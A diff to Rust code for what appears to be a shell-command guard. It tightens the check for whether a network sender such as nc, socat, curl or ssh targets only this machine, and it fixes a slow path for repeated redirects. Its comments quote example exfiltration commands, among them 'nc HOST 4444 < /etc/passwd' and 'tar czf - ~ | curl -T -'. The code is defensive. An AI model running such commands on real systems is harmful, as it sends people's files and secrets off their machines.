@@ -349,7 +349,7 @@ fn command_effects(pipeline: &Pipeline, i: usize, ctx: &GuardContext<'_>, out: &
         // `nc HOST 4444 < /etc/passwd`, `socat - TCP:HOST:80 < db.sqlite3`: the file fed in is
         // what is sent.
         let dest = sent_to(cmd);
-        if !cmd.inputs.is_empty() && !loopback_destination(&dest) {
+        if !cmd.inputs.is_empty() && !sends_only_to_loopback(cmd) {
             judge_upload(cmd, cmd.inputs.iter().map(String::as_str), false, &dest, ctx, out);
         }
     }
@@ -4616,7 +4616,7 @@ fn reads_stdin_to_network(cmd: &SimpleCommand) -> bool {
 
 /// `tar czf - ~ | curl -T - ...`: what the commands before the sender pack or print is sent.
 fn piped_upload(before: &[SimpleCommand], sender: &SimpleCommand, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
-    if sender.name() == "ssh" && sender.argv.iter().any(|a| a.contains("@localhost") || a == "localhost") {
+    if sender.name() == "ssh" && sends_only_to_loopback(sender) {
         return;
     }
     let mut sources: Vec<String> = Vec::new();
@@ -4657,7 +4657,7 @@ fn piped_upload(before: &[SimpleCommand], sender: &SimpleCommand, ctx: &GuardCon
     let dumper = before
         .iter()
         .find(|c| dumps_a_database(c))
-        .filter(|_| !loopback_destination(&dest));
+        .filter(|_| !sends_only_to_loopback(sender));
     if sources.is_empty() && dumper.is_none() {
         return;
     }
@@ -4700,18 +4700,52 @@ fn sent_to(sender: &SimpleCommand) -> String {
         .unwrap_or_else(|| "a remote host".into())
 }
 
-/// Whether a sender's destination ([`sent_to`]) is this machine: `localhost:8080`,
-/// `127.0.0.1`, `TCP:localhost:80`, `user@localhost`, `http://[::1]:3000/`.
-fn loopback_destination(dest: &str) -> bool {
-    let lower = dest.to_ascii_lowercase();
+/// Whether every address `sender` names is this machine's (`nc localhost 8080`, `socat -
+/// TCP:127.0.0.1:80`, `http POST localhost:8000/items`): every word, or option value, that
+/// looks like a host or URL, and at least one. A proxy, a jump host or a source address
+/// beside it (`-x http://HOST`, `-J HOST`) is an address too, so it does not pass.
+fn sends_only_to_loopback(sender: &SimpleCommand) -> bool {
+    let mut addresses = sender.argv[1..].iter().filter_map(|a| match a.strip_prefix('-') {
+        Some(_) => a.split_once('=').map(|(_, v)| v),
+        None => Some(a.as_str()),
+    });
+    let mut named = false;
+    let all_loopback = addresses.all(|a| {
+        // A remote command (`ssh HOST 'cat > k.tgz'`) is no address; `user@host` is one.
+        let host = a.rsplit_once('@').map_or(a, |(_, h)| h);
+        let address =
+            !a.contains(char::is_whitespace) && (host.contains(['.', ':']) || host.eq_ignore_ascii_case("localhost"));
+        named |= address;
+        !address || loopback_address(a)
+    });
+    named && all_loopback
+}
+
+/// Whether `word` names this machine exactly: `localhost`, `127.0.0.1`, `[::1]`, with a
+/// scheme, a user, a port or a path around it (`TCP:localhost:80`, `http://127.0.0.1:3000/x`,
+/// `dev@localhost`); not `localhost.example.com` nor `127.example.com`.
+fn loopback_address(word: &str) -> bool {
+    let lower = word.to_ascii_lowercase();
     let rest = lower.split_once("://").map_or(lower.as_str(), |(_, r)| r);
     let rest = ["tcp4:", "tcp6:", "tcp:", "openssl:", "ssl:"]
         .iter()
         .find_map(|p| rest.strip_prefix(p))
         .unwrap_or(rest);
+    let rest = rest.split('/').next().unwrap_or(rest);
     let host = rest.rsplit_once('@').map_or(rest, |(_, h)| h);
-    let host = host.trim_start_matches('[');
-    host.starts_with("localhost") || host.starts_with("127.") || host.starts_with("::1]") || host == "::1"
+    if let Some(v6) = host.strip_prefix('[') {
+        return v6.split(']').next() == Some("::1");
+    }
+    if host == "::1" {
+        return true;
+    }
+    let host = host.split(':').next().unwrap_or(host);
+    let ipv4_loopback = host.starts_with("127.")
+        && host.split('.').count() == 4
+        && host
+            .split('.')
+            .all(|p| !p.is_empty() && p.chars().all(|c| c.is_ascii_digit()));
+    host == "localhost" || ipv4_loopback
 }
 
 /// Whether `cmd` prints a whole database: a dump program writing to stdout (`pg_dump prod`,
@@ -5317,11 +5351,16 @@ fn staged_payload(
                 .collect::<Vec<_>>()
                 .join(" ")
         });
-        for file in cmd.redirects.iter().filter(|f| !f.starts_with("/dev/")) {
-            let text = text.replace("\\n", "\n");
+        let text = text.replace("\\n", "\n");
+        // A file named by several redirects of the command is written once (`echo x >f >f`
+        // ×1,900 appended the text 1,900 times, quadratically: 7 s).
+        let mut files: Vec<&String> = cmd.redirects.iter().filter(|f| !f.starts_with("/dev/")).collect();
+        files.sort_unstable();
+        files.dedup();
+        for file in files {
             match staged.iter_mut().find(|(f, _)| f == file) {
                 Some((_, before)) => *before = format!("{before}\n{text}"),
-                None => staged.push((file.clone(), text)),
+                None => staged.push((file.clone(), text.clone())),
             }
         }
     }
